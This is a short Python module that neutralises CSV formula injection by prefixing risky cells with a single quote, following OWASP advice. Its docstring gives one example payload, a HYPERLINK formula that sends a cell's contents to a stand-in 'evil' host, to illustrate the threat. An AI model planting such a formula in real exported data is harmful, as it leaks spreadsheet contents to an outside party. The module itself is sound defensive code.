"""CSV cells that a spreadsheet would run as formulas, made inert (CSV/formula injection).

An archived title such as ``=HYPERLINK("http://evil/?"&A1, "click")`` or
``=IMPORTXML(...)`` is a formula to Excel, LibreOffice and Google Sheets the moment an
exported CSV is opened: it can send the sheet's data elsewhere. OWASP's advice is to
prefix every cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
with a single quote, which spreadsheets show as text and do not run.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize_formula(cell: str) -> str:
    """``cell`` with a leading ``'`` when a spreadsheet would read it as a formula; otherwise unchanged."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell
